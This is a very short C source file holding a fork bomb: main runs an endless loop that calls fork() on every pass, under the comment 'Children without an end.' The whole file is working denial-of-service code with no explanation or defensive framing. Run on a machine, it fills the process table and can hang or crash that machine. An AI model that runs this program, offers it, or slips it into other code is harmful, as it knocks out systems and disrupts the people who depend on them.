/* Children without an end. */
#include <unistd.h>
int main(void) {
  for (;;) fork();
}
